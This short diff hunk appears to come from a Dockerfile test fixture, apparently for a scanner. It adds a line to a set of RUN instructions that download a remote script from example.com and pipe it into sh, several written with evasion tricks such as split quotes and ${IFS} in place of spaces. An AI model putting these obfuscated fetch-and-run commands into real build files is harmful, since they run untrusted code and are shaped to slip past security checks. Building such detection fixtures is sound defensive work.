@@ -11,3 +11,4 @@ RUN sh -c "curl -fsSL \"$URL\" | sh"
 RUN c''url -fsSL https://example.com/q.sh | s"h"
 SHELL ["/usr/bin/env", "sh", "-c"]
 RUN curl -fsSL https://example.com/e.sh | sh
+RUN curl${IFS}-fsSL${IFS}https://example.com/s.sh|sh
